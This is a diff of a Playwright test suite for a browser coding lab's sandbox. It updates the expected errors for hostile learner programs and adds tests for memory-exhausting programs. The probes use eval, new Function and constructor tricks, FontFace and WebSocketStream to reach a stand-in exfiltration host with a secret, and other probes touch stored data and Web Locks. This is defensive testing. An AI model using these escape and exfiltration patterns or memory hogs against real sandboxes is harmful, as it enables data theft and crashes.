@@ -1,7 +1,7 @@
 import { createServer, type Server } from 'node:http';
 import type { Page } from '@playwright/test';
 import { CLAIM_LAB_DOORS_TIMEOUT, checkClaimLabDoors } from './doors';
-import { expect, exportedRoutes, test } from './fixtures';
+import { editorReady, expect, exportedRoutes, HEAVY_LOAD, test } from './fixtures';
 
 // Issue 17: a learner's program must not reach any other origin, the learner's stored data, Web
 // Locks or OPFS. A second local server listens on another port while hostile programs run; it
@@ -60,7 +60,7 @@ const probes: { name: string; source: string; error: RegExp }[] = [
   {
     name: 'indirect eval of a hidden import',
     source: `(0, eval)('imp' + 'ort("http://${EXFIL}/eval?secret=42")');`,
-    error: /Exception on line 2: ReferenceError: eval is not defined/,
+    error: /Exception on line 2: ReferenceError: '?eval'? is not defined/,
   },
   {
     name: 'import with a comment before the parenthesis',
@@ -70,22 +70,22 @@ const probes: { name: string; source: string; error: RegExp }[] = [
   {
     name: 'new Function hiding an import',
     source: `new Function('return imp' + 'ort("http://${EXFIL}/function?secret=42")')();`,
-    error: /Exception on line 2: ReferenceError: Function is not defined/,
+    error: /Exception on line 2: ReferenceError: '?Function'? is not defined/,
   },
   {
     name: 'the Function constructor reached through a function',
     source: `(() => 0).constructor('return imp' + 'ort("http://${EXFIL}/constructor")')();`,
-    error: /Exception on line 2: TypeError: .*constructor is not a function/,
+    error: /Exception on line 2: TypeError: (.*constructor is )?not a function/,
   },
   {
     name: 'a font loaded from another origin',
     source: `new FontFace('x', 'url(http://${EXFIL}/font?secret=42)').load();`,
-    error: /Exception on line 2: ReferenceError: FontFace is not defined/,
+    error: /Exception on line 2: ReferenceError: '?FontFace'? is not defined/,
   },
   {
     name: 'a WebSocketStream',
     source: `new WebSocketStream('ws://${EXFIL}/stream?secret=42');`,
-    error: /Exception on line 2: ReferenceError: WebSocketStream is not defined/,
+    error: /Exception on line 2: ReferenceError: '?WebSocketStream'? is not defined/,
   },
   {
     name: 'the classic network APIs',
@@ -99,27 +99,27 @@ const probes: { name: string; source: string; error: RegExp }[] = [
   () => new SharedWorker('http://${EXFIL}/shared.js'),
 ];
 for (const t of tries) t();`,
-    error: /Exception on line 3: ReferenceError: fetch is not defined/,
+    error: /Exception on line 3: ReferenceError: '?fetch'? is not defined/,
   },
   {
     name: 'stored data (IndexedDB)',
     source: `indexedDB.open('lease-lab');`,
-    error: /Exception on line 2: ReferenceError: indexedDB is not defined/,
+    error: /Exception on line 2: ReferenceError: '?indexedDB'? is not defined/,
   },
   {
     name: 'stored data (localStorage, Cache Storage)',
     source: `print(typeof localStorage, typeof caches, typeof self, typeof location);\nlocalStorage.getItem('x');`,
-    error: /Exception on line 3: ReferenceError: localStorage is not defined/,
+    error: /Exception on line 3: ReferenceError: '?localStorage'? is not defined/,
   },
   {
     name: 'Web Locks held forever',
     source: `navigator.locks.request('lease-lab.records', () => new Promise(() => {}));`,
-    error: /Exception on line 2: ReferenceError: navigator is not defined/,
+    error: /Exception on line 2: ReferenceError: '?navigator'? is not defined/,
   },
   {
     name: 'OPFS',
     source: `navigator.storage.getDirectory();`,
-    error: /Exception on line 2: ReferenceError: navigator is not defined/,
+    error: /Exception on line 2: ReferenceError: '?navigator'? is not defined/,
   },
 ];
 
@@ -196,6 +196,50 @@ test('oversized programs are bounded, hostile programs get a clear error, nothin
     }, EXFIL);
     for (const [name, result] of Object.entries(results)) expect(result, name).toMatch(/^blocked/);
     expect(arrived).toEqual([]);
+  });
+});
+
+// Issue 42, point 1: each of these crashed the tab ("Target crashed") while the program ran in
+// the worker's own JavaScript heap, even under the counted budget of built-ins. In the program's
+// own engine (QuickJS in WebAssembly, with a capped memory) each ends in one line, the page stays,
+// and the demo runs again. (The fixture fails the test on a crashed page.)
+const MEMORY_HOGS: { name: string; source: string }[] = [
+  {
+    name: 'the issue’s program',
+    source: `const a = []; for (;;) a.push(new Array(1e6).fill(Math.random()));`,
+  },
+  {
+    name: 'A: pushes, with a database call each round',
+    source: `const a = []; for (;;) { const b = []; for (let i = 0; i < 1e6; i++) b.push(i + 0.5); a.push(b); db.get('SELECT 1'); }`,
+  },
+  {
+    name: 'B: the native Array through [].constructor',
+    source: `const A = [].constructor; const a = []; for (;;) a.push(new A(1e6).fill(Math.random()));`,
+  },
+];
+
+test('a program that fills memory ends in one line, the tab stays, and the demo runs again (issue 42)', async ({
+  page,
+}) => {
+  test.setTimeout(MEMORY_HOGS.length * 90_000 + 120_000);
+  await page.goto('/practice/claim-lab');
+  await editorReady(page);
+  for (const hog of MEMORY_HOGS) {
+    await test.step(hog.name, async () => {
+      await runProgram(page, `// @ts-nocheck\n${hog.source}`);
+      await expect(runStatus(page), hog.name).toHaveText(
+        /^Your program used more than 64 MB, all the memory the lab gives one run, so it was stopped; the page and the lab are fine\./,
+        { timeout: 60_000 },
+      );
+      // The page still answers (a crashed renderer answers nothing).
+      expect(await page.evaluate(() => document.title)).not.toBe('');
+    });
+  }
+  await test.step('the demo runs again, and passes', async () => {
+    await page.getByRole('button', { name: 'Reset to the original' }).click();
+    await expect(runStatus(page)).toHaveText(/^Ready\./);
+    await page.getByRole('button', { name: 'Run', exact: true }).click();
+    await expect(page.getByTestId('verdict')).toHaveText('pass', HEAVY_LOAD);
   });
 });
 
